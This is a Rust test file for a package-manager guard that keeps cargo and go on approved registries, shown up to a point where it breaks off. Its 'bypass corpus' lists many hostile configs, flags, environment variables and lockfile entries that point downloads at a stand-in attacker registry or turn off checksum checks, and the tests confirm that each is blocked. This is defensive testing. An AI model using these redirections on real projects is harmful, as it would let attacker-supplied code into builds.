//! Approved registries for cargo and go, end to end: the real cargo (and
//! the real go, when one is installed) behind pkgward shims, fetching from
//! registries this test serves on 127.0.0.1 — a sparse cargo registry and a
//! Go module proxy — and an unapproved listener that must never be reached.

mod support;

use std::ffi::OsString;
use std::path::PathBuf;
use std::process::Output;
use std::sync::OnceLock;

use support::gomod::{GoModule, GoProxy};
use support::guard::{evil, pkgward_bin, text, to_env, Guarded};
use support::tools::{find_in_path, real_cargo, EnvList};
use support::{shared, Crate, Sandbox};

const GO_APP: &str = "example.com/pwcg/app";
const GO_LEAF: &str = "example.com/pwcg/leaf";

struct Fixtures {
    /// GOPROXY URL of the loopback Go proxy.
    go_proxy: String,
    /// go.sum lines of every fixture module.
    go_sum: String,
}

fn fixtures() -> &'static Fixtures {
    static F: OnceLock<Fixtures> = OnceLock::new();
    F.get_or_init(|| {
        let r = shared();
        r.publish_crate(&Crate::new("pw-cg-leaf", "1.0.0"));
        r.publish_crate(
            &Crate::new("pw-cg-app", "0.2.0")
                .dep("pw-cg-leaf", "^1")
                .lib("pub fn describe() -> String {\n    format!(\"app+{}\", pw_cg_leaf::fixture_name())\n}\n"),
        );
        // Only the mirror test uses this one, so its downloads are its own.
        r.publish_crate(&Crate::new("pw-cg-mirror", "0.1.0").dep("pw-cg-leaf", "1"));
        let leaf = GoModule::new(GO_LEAF, "v1.0.0");
        let app = GoModule::new(GO_APP, "v1.1.0").require(GO_LEAF, "v1.0.0");
        let go_sum = format!("{}{}", app.go_sum_lines(), leaf.go_sum_lines());
        let mut proxy = GoProxy::new();
        proxy.add(leaf).add(app);
        let go_proxy = proxy.serve(&r.server.handle(), "/go");
        Fixtures { go_proxy, go_sum }
    })
}

/// The loopback cargo registry as a policy names it (an http URL: the
/// matcher sets cargo's `sparse+` aside).
fn cargo_url() -> String {
    shared()
        .cargo_index_url()
        .trim_start_matches("sparse+")
        .to_string()
}

fn policy(mode: &str, extra_cargo: &str, extra_go: &str) -> String {
    let f = fixtures();
    format!(
        "mode = \"{mode}\"\n[registries]\ncargo = [\"{}\"{extra_cargo}]\ngo = [\"{}\"{extra_go}]\n",
        cargo_url(),
        f.go_proxy
    )
}

fn enforce() -> String {
    policy("enforce", "", "")
}

fn write_exec(path: &std::path::Path, body: &str) {
    let _ = std::fs::remove_file(path);
    std::fs::write(path, body).unwrap();
    std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
}

/// The real go, if this machine has one.
fn real_go() -> Option<PathBuf> {
    static P: OnceLock<Option<PathBuf>> = OnceLock::new();
    P.get_or_init(|| find_in_path("go").and_then(|p| p.canonicalize().ok()))
        .clone()
}

/// A guarded sandbox with cargo and go shims; the real cargo behind them,
/// the real go (or, without one, a stand-in that only records it ran), and
/// `$CARGO_HOME/config.toml` replacing crates-io with the approved loopback
/// registry (the baseline every case starts from).
fn guarded(policy: &str) -> Guarded {
    fixtures();
    let g = Guarded::new(policy);
    for t in ["cargo", "go"] {
        std::os::unix::fs::symlink(pkgward_bin(), g.shims.join(t)).unwrap();
    }
    write_exec(
        &g.real.join("cargo"),
        &format!("#!/bin/sh\nexec '{}' \"$@\"\n", real_cargo().display()),
    );
    match real_go() {
        Some(go) => write_exec(
            &g.real.join("go"),
            &format!("#!/bin/sh\nexec '{}' \"$@\"\n", go.display()),
        ),
        None => fake_tool(&g, "go"),
    }
    g.sb.cargo_config(&shared().cargo.config_replacing_crates_io());
    g
}

/// A stand-in for `tool` that only records that it ran (and, as cargo,
/// answers pkgward's `cargo metadata` with an empty graph).
fn fake_tool(g: &Guarded, tool: &str) {
    write_exec(
        &g.real.join(tool),
        "#!/bin/sh\ncase \" $* \" in *\" metadata --format-version 1 --offline \"*) echo '{\"packages\":[],\"workspace_members\":[],\"resolve\":null}'; exit 0;; esac\n\
         echo \"$0 $*\" > \"$FIXTURE_MARKER_DIR/ran\"\n",
    );
}

/// Stand-ins for cargo and go.
fn fake_tools(g: &Guarded) {
    fake_tool(g, "cargo");
    fake_tool(g, "go");
}

/// go isolated in the sandbox: the approved proxy, module cache and build
/// cache under the sandbox's HOME, writable module cache (so the temp dir
/// can be removed), no toolchain switching.
fn go_env(sb: &Sandbox) -> EnvList {
    vec![
        ("GOPROXY".into(), fixtures().go_proxy.clone().into()),
        ("GOPATH".into(), sb.home.join("go").into()),
        ("GOFLAGS".into(), "-modcacherw".into()),
        ("GOTOOLCHAIN".into(), "local".into()),
        ("GOTELEMETRY".into(), "off".into()),
        ("CGO_ENABLED".into(), "0".into()),
    ]
}

fn run_tool(g: &Guarded, tool: &str, args: &[String], env: EnvList) -> Output {
    let tool_env = if tool == "go" {
        go_env(&g.sb)
    } else {
        g.sb.cargo_env()
    };
    g.sb.command(tool, &[tool_env, g.pkgward_env(), env])
        .args(args)
        .output()
        .unwrap()
}

// ---- approved builds --------------------------------------------------

const CARGO_TOML: &str = "[package]\nname = \"cg-app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\npw-cg-app = \"0.2\"\n";
const MAIN_RS: &str = "fn main() {\n    println!(\"{}\", pw_cg_app::describe());\n}\n";
const MIRROR_TOML: &str = "[package]\nname = \"cg-mirror\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\npw-cg-mirror = \"0.1\"\n";
const MIRROR_RS: &str = "fn main() {\n    println!(\"{}\", pw_cg_mirror::fixture_name());\n}\n";

#[test]
fn approved_cargo_build_is_the_same_as_without_the_shim() {
    let g = guarded(&enforce());
    g.sb.write("Cargo.toml", CARGO_TOML);
    g.sb.write("src/main.rs", MAIN_RS);
    let out = run_tool(&g, "cargo", &["build".into(), "--quiet".into()], vec![]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow", "{inv}");
    let srcs = inv["classification"]["sources"].to_string();
    assert!(srcs.contains("source.pkgward-fixture.registry"), "{srcs}");

    let mut bare = Sandbox::new();
    bare.trap_proxies(&evil().base_url());
    bare.cargo_config(&shared().cargo.config_replacing_crates_io());
    bare.write("Cargo.toml", CARGO_TOML);
    bare.write("src/main.rs", MAIN_RS);
    let direct = bare.cargo().args(["build", "--quiet"]).output().unwrap();
    assert!(direct.status.success(), "{}", text(&direct.stderr));
    assert_eq!(
        std::fs::read(g.sb.work.join("Cargo.lock")).unwrap(),
        std::fs::read(bare.work.join("Cargo.lock")).unwrap()
    );
    // The lockfile records crates-io's identity; a locked rebuild through
    // the shim is allowed too, and runs.
    let run = run_tool(
        &g,
        "cargo",
        &["run".into(), "--quiet".into(), "--locked".into()],
        vec![],
    );
    assert!(run.status.success(), "{}", text(&run.stderr));
    assert_eq!(text(&run.stdout).trim(), "app+pw-cg-leaf-1.0.0");
    assert_eq!(g.last_invocation()["decision"]["action"], "allow");
}

/// `go build` of a module that requires the fixture modules, with the go.sum
/// the fixtures compute: through the shim and bare, the same result.
#[test]
fn approved_go_build_is_the_same_as_without_the_shim() {
    let Some(go) = real_go() else {
        eprintln!("SKIPPED: no go toolchain on PATH (apt-get install golang-go)");
        return;
    };
    let f = fixtures();
    let setup = |sb: &Sandbox| {
        sb.write(
            "go.mod",
            format!("module example.com/pwcg/main\n\ngo 1.19\n\nrequire (\n\t{GO_APP} v1.1.0\n\t{GO_LEAF} v1.0.0 // indirect\n)\n"),
        );
        sb.write("go.sum", &f.go_sum);
        sb.write(
            "main.go",
            "package main\n\nimport (\n\t\"fmt\"\n\n\t\"example.com/pwcg/app\"\n)\n\nfunc main() { fmt.Println(app.FixtureName()) }\n",
        );
    };
    let g = guarded(&enforce());
    setup(&g.sb);
    let out = run_tool(
        &g,
        "go",
        &["build".into(), "-o".into(), "app".into(), ".".into()],
        vec![],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(g.last_invocation()["decision"]["action"], "allow");
    let mut bare = Sandbox::new();
    bare.trap_proxies(&evil().base_url());
    setup(&bare);
    let direct = bare
        .command(&go, &[go_env(&bare)])
        .args(["build", "-o", "app", "."])
        .output()
        .unwrap();
    assert!(direct.status.success(), "{}", text(&direct.stderr));
    for sb in [&g.sb, &bare] {
        let ran = std::process::Command::new(sb.work.join("app"))
            .output()
            .unwrap();
        assert_eq!(text(&ran.stdout).trim(), format!("{GO_APP}@v1.1.0"));
        assert_eq!(
            std::fs::read_to_string(sb.work.join("go.sum")).unwrap(),
            f.go_sum
        );
    }
    let hits = shared().server.hits_under("/go/");
    assert!(hits
        .iter()
        .any(|h| h.path == format!("/go/{GO_APP}/@v/v1.1.0.zip")));
}

// ---- mirrors forced over hostile configuration ---------------------------

#[test]
fn cargo_mirror_is_forced_over_a_hostile_project_config() {
    let reg = cargo_url();
    let policy = format!(
        "mode = \"enforce\"\n[registries]\ncargo = [\"{reg}\"]\n[mirrors]\ncargo = \"{reg}\"\n"
    );
    let mut g = guarded(&policy);
    // Anything that would leave for a public host lands on the listener too.
    g.sb.trap_proxies(&evil().base_url());
    // No replacement of its own: crates-io would be the builtin default.
    g.sb.cargo_config("[net]\nretry = 0\n");
    let before = evil().connections().len();
    let hostile = format!(
        "[source.crates-io]\nreplace-with = \"team\"\n\n[source.team]\nregistry = \"sparse+http://127.0.0.1:{p}/\"\n\n[registries.extra]\nindex = \"sparse+http://127.0.0.1:{p}/extra/\"\n",
        p = evil().port()
    );
    g.sb.write(".cargo/config.toml", &hostile);
    g.sb.write("Cargo.toml", MIRROR_TOML);
    g.sb.write("src/main.rs", MIRROR_RS);
    // `--config` before the subcommand (top level)…
    let out = run_tool(&g, "cargo", &["fetch".into()], vec![]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow", "{inv}");
    let forced = &inv["decision"]["forced"];
    assert_eq!(forced["mirror"], reg);
    assert_eq!(forced["args"][0], "--config");
    assert!(forced["env"]
        .to_string()
        .contains("CARGO_REGISTRIES_EXTRA_INDEX"));
    let overridden = forced["overridden"].to_string();
    assert!(overridden.contains("source.team.registry"), "{overridden}");
    assert!(overridden.contains(".cargo/config.toml"), "{overridden}");
    // …and after a built-in subcommand whose own `--config` would drop it
    // (from scratch: no lockfile, no downloaded crates).
    std::fs::remove_file(g.sb.work.join("Cargo.lock")).unwrap();
    std::fs::remove_dir_all(g.sb.cargo_home().join("registry")).unwrap();
    let mark = shared().server.mark();
    let out = run_tool(
        &g,
        "cargo",
        &[
            "build".into(),
            "--quiet".into(),
            "--config".into(),
            "net.retry=0".into(),
        ],
        vec![],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(g.sb.root().join("cargo-target/debug/cg-mirror").is_file());
    let fetched: Vec<String> = shared()
        .server
        .hits_since(mark)
        .into_iter()
        .map(|h| h.path)
        .collect();
    assert!(
        fetched
            .iter()
            .any(|p| p.ends_with("/pw-cg-mirror/0.1.0/download")),
        "{fetched:?}"
    );
    assert_eq!(
        evil().connections().len(),
        before,
        "the hostile registry was contacted"
    );
    assert_eq!(
        std::fs::read_to_string(g.sb.work.join(".cargo/config.toml")).unwrap(),
        hostile
    );
    assert!(!g
        .state
        .join("run")
        .read_dir()
        .is_ok_and(|mut d| d.next().is_some()));
}

#[test]
fn go_mirror_is_forced_over_a_hostile_goenv_file() {
    if real_go().is_none() {
        eprintln!("SKIPPED: no go toolchain on PATH (apt-get install golang-go)");
        return;
    }
    let f = fixtures();
    let policy = format!(
        "mode = \"enforce\"\n[registries]\ngo = [\"{p}\"]\n[mirrors]\ngo = \"{p}\"\n",
        p = f.go_proxy
    );
    let mut g = guarded(&policy);
    g.sb.trap_proxies(&evil().base_url());
    let before = evil().connections().len();
    // What `go env -w` left behind, pointing at the attacker.
    let goenv = format!(
        "GOPROXY=http://127.0.0.1:{p}/,direct\nGONOPROXY=example.com\nGOINSECURE=example.com\nGOFLAGS=-modcacherw -insecure\n",
        p = evil().port()
    );
    let goenv_path = g.sb.home.join(".config/go/env");
    std::fs::create_dir_all(goenv_path.parent().unwrap()).unwrap();
    std::fs::write(&goenv_path, &goenv).unwrap();
    g.sb.write(
        "go.mod",
        format!("module example.com/pwcg/main\n\ngo 1.19\n\nrequire (\n\t{GO_APP} v1.1.0\n\t{GO_LEAF} v1.0.0 // indirect\n)\n"),
    );
    g.sb.write("go.sum", &f.go_sum);
    // The user's own environment does not set GOPROXY or GOFLAGS this time.
    let mut c = g.sb.command("go", &[go_env(&g.sb), g.pkgward_env()]);
    c.env_remove("GOPROXY")
        .env_remove("GOFLAGS")
        .args(["mod", "download", "-json", GO_APP]);
    let out = c.output().unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("\"Version\": \"v1.1.0\""));
    assert_eq!(
        evil().connections().len(),
        before,
        "the GOENV file's proxy was contacted"
    );
    assert_eq!(std::fs::read_to_string(&goenv_path).unwrap(), goenv);
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow", "{inv}");
    let env = inv["decision"]["forced"]["env"].to_string();
    for want in ["GOPROXY", "GONOPROXY", "GOINSECURE", "GOFLAGS"] {
        assert!(env.contains(want), "{want} not forced: {env}");
    }
}

// ---- the bypass corpus ------------------------------------------------------

/// One bypass attempt: tool, arguments, extra environment, files written
/// under the sandbox root (`work/…`, `home/…`, `cargo-home/…`), and what the
/// denial must name. `EVIL/` stands for the unapproved listener's URL,
/// `ROOT` for the sandbox root.
struct Bypass {
    name: &'static str,
    tool: &'static str,
    args: &'static [&'static str],
    env: &'static [(&'static str, &'static str)],
    files: &'static [(&'static str, &'static str)],
    names: &'static str,
}

const fn b(
    name: &'static str,
    tool: &'static str,
    args: &'static [&'static str],
    env: &'static [(&'static str, &'static str)],
    files: &'static [(&'static str, &'static str)],
    names: &'static str,
) -> Bypass {
    Bypass {
        name,
        tool,
        args,
        env,
        files,
        names,
    }
}

const APP: &str = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";
const EVIL_SOURCE: &str =
    "[source.crates-io]\nreplace-with = \"team\"\n\n[source.team]\nregistry = \"sparse+EVIL/\"\n";

const BYPASS: &[Bypass] = &[
    // cargo: the command line.
    b("cargo --config before the subcommand", "cargo", &["--config", "source.crates-io.replace-with=\"e\"", "--config", "source.e.registry=\"sparse+EVIL/\"", "fetch"], &[], &[("work/Cargo.toml", APP)], "the command-line flag --config sets source.e.registry"),
    b("cargo --config after the subcommand", "cargo", &["build", "--config=source.crates-io.replace-with='e'", "--config=source.e.registry='sparse+EVIL/'"], &[], &[("work/Cargo.toml", APP)], "source.e.registry"),
    b("cargo --config FILE", "cargo", &["fetch", "--config", "extra.toml"], &[], &[("work/Cargo.toml", APP), ("work/extra.toml", EVIL_SOURCE)], "extra.toml:5"),
    b("cargo --config names an existing file", "cargo", &["fetch", "--config", "source.crates-io.replace-with=\"ok\""], &[], &[("work/Cargo.toml", APP), ("work/source.crates-io.replace-with=\"ok\"", EVIL_SOURCE)], "replace-with=\"ok\":5"),
    b("cargo +toolchain -Z --config", "cargo", &["+stable", "-Zunstable-options", "--config", "source.crates-io.replace-with=\"e\"", "--config=source.e.git=\"EVIL/index.git\"", "check"], &[], &[("work/Cargo.toml", APP)], "the command-line flag --config fetches from git"),
    b("cargo --index", "cargo", &["install", "--index", "sparse+EVIL/", "ripgrep"], &[], &[], "the command-line flag --index"),
    b("cargo install --git", "cargo", &["install", "--git", "EVIL/tool.git"], &[], &[], "the command-line flag --git"),
    b("cargo add --git", "cargo", &["add", "tool", "--git=EVIL/tool.git"], &[], &[("work/Cargo.toml", APP)], "--git"),
    b("cargo publish --index", "cargo", &["publish", "--index", "sparse+EVIL/"], &[], &[("work/Cargo.toml", APP)], "--index"),
    // cargo: config files.
    b("project .cargo/config.toml replace-with", "cargo", &["build"], &[], &[("work/Cargo.toml", APP), ("work/.cargo/config.toml", EVIL_SOURCE)], ".cargo/config.toml:5"),
    b("legacy .cargo/config wins over config.toml", "cargo", &["build"], &[], &[("work/Cargo.toml", APP), ("work/.cargo/config", EVIL_SOURCE), ("work/.cargo/config.toml", "")], ".cargo/config:5"),
    b("parent directory config", "cargo", &["build"], &[], &[("work/Cargo.toml", APP), (".cargo/config.toml", "[source.crates-io]\nreplace-with = \"a\"\n[source.a]\nreplace-with = \"b\"\n[source.b]\nregistry = \"sparse+EVIL/\"\n")], ".cargo/config.toml:6"),
    b("CARGO_HOME config", "cargo", &["install", "ripgrep"], &[], &[("cargo-home/config.toml", EVIL_SOURCE)], "cargo-home/config.toml:5"),
    b("config above CARGO_HOME read by cargo install", "cargo", &["install", "ripgrep"], &[], &[(".cargo/config.toml", EVIL_SOURCE)], ".cargo/config.toml:5"),
    b("config include", "cargo", &["build"], &[], &[("work/Cargo.toml", APP), ("work/.cargo/config.toml", "include = [\"team.toml\"]\n"), ("work/.cargo/team.toml", EVIL_SOURCE)], "team.toml:5"),
    b("crates-io's own registry key", "cargo", &["build"], &[], &[("work/Cargo.toml", APP), ("cargo-home/config.toml", ""), ("work/.cargo/config.toml", "[source.crates-io]\nregistry = \"sparse+EVIL/\"\n")], "source.crates-io.registry"),
    b("replacement by a git index", "cargo", &["build"], &[], &[("work/Cargo.toml", APP), ("work/.cargo/config.toml", "[source.crates-io]\nreplace-with = \"g\"\n[source.g]\ngit = \"EVIL/index.git\"\n")], "fetches from git"),
    b("named registry in project config", "cargo", &["build"], &[], &[("work/Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n[dependencies]\nx = { version = \"1\", registry = \"team\" }\n"), ("work/.cargo/config.toml", "[registries.team]\nindex = \"sparse+EVIL/\"\n")], "registries.team.index"),
    b("CARGO_REGISTRIES_<NAME>_INDEX", "cargo", &["install", "--registry", "team", "x"], &[("CARGO_REGISTRIES_TEAM_INDEX", "sparse+EVIL/")], &[], "CARGO_REGISTRIES_TEAM_INDEX"),
    b("registry.default with cargo install", "cargo", &["install", "x"], &[("CARGO_REGISTRY_DEFAULT", "team"), ("CARGO_REGISTRIES_TEAM_INDEX", "sparse+EVIL/")], &[], "CARGO_REGISTRIES_TEAM_INDEX"),
    b("alias expanding to --config", "cargo", &["get"], &[], &[("work/Cargo.toml", APP), ("work/.cargo/config.toml", "[alias]\nget = [\"fetch\", \"--config\", \"source.crates-io.replace-with='e'\", \"--config\", \"source.e.registry='sparse+EVIL/'\"]\n")], "source.e.registry"),
    b("CARGO_ALIAS_ to another manifest", "cargo", &["yy"], &[("CARGO_ALIAS_YY", "fetch --manifest-path other/Cargo.toml")], &[("work/other/Cargo.toml", "[package]\nname = \"o\"\nversion = \"0.1.0\"\n[dependencies]\nx = { git = \"EVIL/x.git\" }\n")], "other/Cargo.toml:5"),
    b("config [patch]", "cargo", &["build"], &[], &[("work/Cargo.toml", APP), ("work/.cargo/config.toml", "[patch.crates-io]\nserde = { git = \"EVIL/serde.git\" }\n")], ".cargo/config.toml:2"),
    // cargo: manifests.
    b("Cargo.toml git dependency", "cargo", &["build"], &[], &[("work/Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n\n[dependencies]\nx = { git = \"EVIL/x.git\", branch = \"main\" }\n")], "Cargo.toml:6"),
    b("Cargo.toml registry-index", "cargo", &["build"], &[], &[("work/Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n\n[dependencies.x]\nversion = \"1\"\nregistry-index = \"sparse+EVIL/\"\n")], "Cargo.toml:7"),
    b("workspace.dependencies git", "cargo", &["build"], &[], &[("work/Cargo.toml", "[workspace]\nmembers = [\"a\"]\n[workspace.dependencies]\nx = { git = \"EVIL/x.git\" }\n")], "Cargo.toml:4"),
    b("target-specific build-dependency", "cargo", &["check"], &[], &[("work/Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n[target.'cfg(unix)'.build-dependencies]\nx = { git = \"EVIL/x.git\" }\n")], "Cargo.toml:5"),
    b("dev-dependency", "cargo", &["test"], &[], &[("work/Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n[dev-dependencies.x]\ngit = \"EVIL/x.git\"\n")], "Cargo.toml:5"),
    b("Cargo.toml [patch]", "cargo", &["build"], &[], &[("work/Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n[patch.crates-io]\nserde = { git = \"EVIL/serde.git\" }\n")], "Cargo.toml:5"),
    b("git dependency of a path dependency", "cargo", &["build"], &[], &[("work/Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n[dependencies]\nlocal = { path = \"crates/local\" }\n"), ("work/crates/local/Cargo.toml", "[package]\nname = \"local\"\nversion = \"0.1.0\"\n[dependencies]\nx = { git = \"EVIL/x.git\" }\n")], "crates/local/Cargo.toml:5"),
    b("workspace member", "cargo", &["build", "-p", "m"], &[], &[("work/Cargo.toml", "[workspace]\nmembers = [\"m\"]\n"), ("work/m/Cargo.toml", "[package]\nname = \"m\"\nversion = \"0.1.0\"\n[dependencies]\nx = { git = \"EVIL/x.git\" }\n")], "m/Cargo.toml:5"),
    b("cargo vendor --sync another workspace", "cargo", &["vendor", "--sync", "other/Cargo.toml"], &[], &[("work/Cargo.toml", APP), ("work/other/Cargo.toml", "[package]\nname = \"o\"\nversion = \"0.1.0\"\n[dependencies]\nx = { git = \"EVIL/x.git\" }\n")], "other/Cargo.toml:5"),
    // cargo: the lockfile.
    b("Cargo.lock git source", "cargo", &["build", "--locked"], &[], &[("work/Cargo.toml", APP), ("work/Cargo.lock", "version = 4\n\n[[package]]\nname = \"x\"\nversion = \"1.0.0\"\nsource = \"git+EVIL/x.git#0123456789abcdef0123456789abcdef01234567\"\n")], "Cargo.lock:6"),
    b("Cargo.lock sparse source", "cargo", &["build"], &[], &[("work/Cargo.toml", APP), ("work/Cargo.lock", "version = 4\n\n[[package]]\nname = \"x\"\nversion = \"1.0.0\"\nsource = \"sparse+EVIL/\"\nchecksum = \"00\"\n")], "Cargo.lock:6"),
    // go.
    b("GOPROXY", "go", &["mod", "download"], &[("GOPROXY", "EVIL/")], &[], "the environment variable GOPROXY"),
    b("GOPROXY falls back to direct", "go", &["build", "./..."], &[("GOPROXY", "APPROVED_GO,direct")], &[], "fetches from git: direct"),
    b("GOPROXY pipe fallback", "go", &["mod", "download"], &[("GOPROXY", "EVIL/|APPROVED_GO")], &[], "GOPROXY"),
    b("GOPROXY bare host", "go", &["get", "example.com/x@v1.0.0"], &[("GOPROXY", "evil.test")], &[], "https://evil.test"),
    b("GOENV file (empty variable falls back to it)", "go", &["mod", "download"], &[("GOPROXY", "")], &[("home/.config/go/env", "GOPROXY=EVIL/\n")], "go/env:1"),
    b("GOENV names another file", "go", &["mod", "download"], &[("GOPROXY", ""), ("GOENV", "ROOT/goenv")], &[("goenv", "GOFLAGS=-mod=mod\nGOPROXY=EVIL/\n")], "goenv:2"),
    b("XDG_CONFIG_HOME", "go", &["mod", "download"], &[("GOPROXY", ""), ("XDG_CONFIG_HOME", "ROOT/xdg")], &[("xdg/go/env", "GOPROXY=EVIL/\n")], "xdg/go/env:1"),
    b("GONOPROXY", "go", &["get", "example.com/pwcg/app@v1.1.0"], &[("GONOPROXY", "example.com")], &[], "the environment variable GONOPROXY"),
    b("GOPRIVATE", "go", &["mod", "download"], &[("GOPRIVATE", "*")], &[], "the environment variable GOPRIVATE"),
    b("GOINSECURE", "go", &["mod", "download"], &[("GOINSECURE", "example.com")], &[], "GOINSECURE"),
    b("GONOSUMDB", "go", &["mod", "download"], &[("GONOSUMDB", "example.com")], &[], "GONOSUMDB"),
    b("GOSUMDB=off", "go", &["mod", "download"], &[("GOSUMDB", "off")], &[], "GOSUMDB = off"),
    b("GOSUMDB=off in the GOENV file", "go", &["build"], &[], &[("home/.config/go/env", "GOSUMDB=off\n")], "go/env:1"),
    b("GOFLAGS=-insecure", "go", &["mod", "download"], &[("GOFLAGS", "-modcacherw -insecure")], &[], "GOFLAGS"),
    b("go get -insecure", "go", &["get", "-insecure", "example.com/x"], &[], &[], "the command-line flag -insecure"),
    b("go run pkg@version", "go", &["run", "example.com/x@latest"], &[("GOPROXY", "EVIL/")], &[], "GOPROXY"),
    b("toolchain go.env under GOROOT", "go", &["mod", "download"], &[("GOPROXY", ""), ("GOROOT", "ROOT/goroot")], &[("goroot/go.env", "GOPROXY=EVIL/\n")], "built-in default"),
];

fn expand(g: &Guarded, s: &str) -> String {
    s.replace("EVIL/", &format!("http://127.0.0.1:{}/", evil().port()))
        .replace("APPROVED_GO", &fixtures().go_proxy)
        .replace("ROOT", &g.sb.root().display().to_string())
}

fn apply(g: &Guarded, c: &Bypass) -> (Vec<String>, EnvList) {
    for (rel, body) in c.files {
        let p = g.sb.root().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, expand(g, body)).unwrap();
    }
    (
        c.args.iter().map(|a| expand(g, a)).collect(),
        c.env
            .iter()
            .map(|(k, v)| (k.to_string(), OsString::from(expand(g, v))))
            .collect(),
    )
}

#[test]
fn bypass_corpus_is_denied_in_enforce_mode_before_any_request() {
    let cargo = BYPASS.iter().filter(|c| c.tool == "cargo").count();
    let go = BYPASS.len() - cargo;
    assert!(cargo >= 20 && go >= 12, "{cargo} cargo and {go} go cases");
    let before = evil().connections().len();
    let mut failures = Vec::new();
    for c in BYPASS {
        let g = guarded(&enforce());
        let (args, env) = apply(&g, c);
        let out = run_tool(&g, c.tool, &args, env);
        let err = text(&out.stderr);
        let names = expand(&g, c.names);
        if out.status.code() != Some(77)
            || !err.contains("pkgward: denied")
            || !err.contains(&names)
        {
            failures.push(format!(
                "{}: exit {:?}, want {names:?}\n{err}",
                c.name,
                out.status.code()
            ));
            continue;
        }
        if g.sb.marker("ran").is_some() {
            failures.push(format!("{}: the tool ran", c.name));
        }
        let inv = g.last_invocation();
        if inv["decision"]["action"] != "deny" {
            failures.push(format!("{}: recorded {}", c.name, inv["decision"]));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} not denied:\n{}",
        failures.len(),
        BYPASS.len(),
        failures.join("\n")
    );
    assert_eq!(
        evil().connections().len(),
        before,
        "the unapproved listener was reached"
    );
}

#[test]
fn bypass_corpus_is_recorded_in_audit_mode() {
    // Audit mode runs the tool: stand-ins that only record their argv, so
    // nothing is fetched, while pkgward records every would-deny.
    let mut failures = Vec::new();
    for c in BYPASS {
        let g = guarded(&policy("audit", "", ""));
        fake_tools(&g);
        let (args, env) = apply(&g, c);
        let out = run_tool(&g, c.tool, &args, env);
        let inv = g.last_invocation();
        if out.status.code() != Some(0)
            || g.sb.marker("ran").is_none()
            || inv["decision"]["action"] != "would-deny"
        {
            failures.push(format!(
                "{}: exit {:?}, recorded {}\n{}",
                c.name,
                out.status.code(),
                inv["decision"],
                text(&out.stderr)
            ));
        }
        if !out.stdout.is_empty() {
            failures.push(format!("{}: pkgward wrote to stdout", c.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {}:\n{}",
        failures.len(),
        BYPASS.len(),
        failures.join("\n")
    );
}

// ---- the legit corpus ---------------------------------------------------------

#[test]
fn legit_corpus_has_no_denials() {
    let policy = policy(
        "enforce",
        ", \"https://git.example.com/\", \"https://crates.example.com/\"",
        ", \"https://git.example.com/\"",
    );
    let reg = shared().cargo_index_url();
    let approved_cli_1 = "source.crates-io.replace-with=\"m\"".to_string();
    let approved_cli_2 = format!("source.m.registry=\"{reg}\"");
    let lock = format!(
        "version = 4\n\n[[package]]\nname = \"a\"\nversion = \"1.0.0\"\nsource = \"registry+https://index.example.com/\"\nchecksum = \"00\"\n\n[[package]]\nname = \"b\"\nversion = \"1.0.0\"\nsource = \"{reg}\"\n\n[[package]]\nname = \"c\"\nversion = \"1.0.0\"\nsource = \"git+https://git.example.com/c.git#0123456789abcdef0123456789abcdef01234567\"\n"
    );
    let hostile = EVIL_SOURCE.replace("EVIL/", &format!("http://127.0.0.1:{}/", evil().port()));
    type Case = (
        &'static str,
        &'static str,
        Vec<String>,
        Vec<(&'static str, String)>,
        Vec<(&'static str, String)>,
    );
    let s = |a: &[&str]| a.iter().map(|x| x.to_string()).collect::<Vec<_>>();
    let cases: Vec<Case> = vec![
        ("cargo build from the approved registry", "cargo", s(&["build"]), vec![], vec![("work/Cargo.toml", APP.into())]),
        ("cargo --version with a hostile config", "cargo", s(&["--version"]), vec![], vec![("work/.cargo/config.toml", hostile.clone())]),
        ("cargo clean with a hostile config", "cargo", s(&["clean"]), vec![], vec![("work/.cargo/config.toml", hostile.clone())]),
        ("cargo metadata --no-deps", "cargo", s(&["metadata", "--no-deps", "--format-version", "1"]), vec![], vec![("work/.cargo/config.toml", hostile.clone())]),
        ("cargo fmt", "cargo", s(&["fmt"]), vec![], vec![("work/.cargo/config.toml", hostile)]),
        ("vendored sources", "cargo", s(&["build", "--offline"]), vec![], vec![("work/Cargo.toml", APP.into()), ("work/.cargo/config.toml", "[source.crates-io]\nreplace-with = \"vendored-sources\"\n\n[source.\"git+https://git.example.com/c.git\"]\ngit = \"https://git.example.com/c.git\"\nreplace-with = \"vendored-sources\"\n\n[source.vendored-sources]\ndirectory = \"vendor\"\n".into())]),
        ("git dependency on an approved host", "cargo", s(&["build"]), vec![], vec![("work/Cargo.toml", format!("{APP}[dependencies]\nc = {{ git = \"https://git.example.com/c.git\" }}\n"))]),
        ("approved named registry", "cargo", s(&["build"]), vec![("CARGO_REGISTRIES_CORP_INDEX", "sparse+https://crates.example.com/index/".into())], vec![("work/Cargo.toml", format!("{APP}[dependencies]\nx = {{ version = \"1\", registry = \"corp\" }}\n"))]),
        ("path dependencies", "cargo", s(&["check"]), vec![], vec![("work/Cargo.toml", format!("{APP}[dependencies]\nl = {{ path = \"l\" }}\n")), ("work/l/Cargo.toml", "[package]\nname = \"l\"\nversion = \"0.1.0\"\n".into())]),
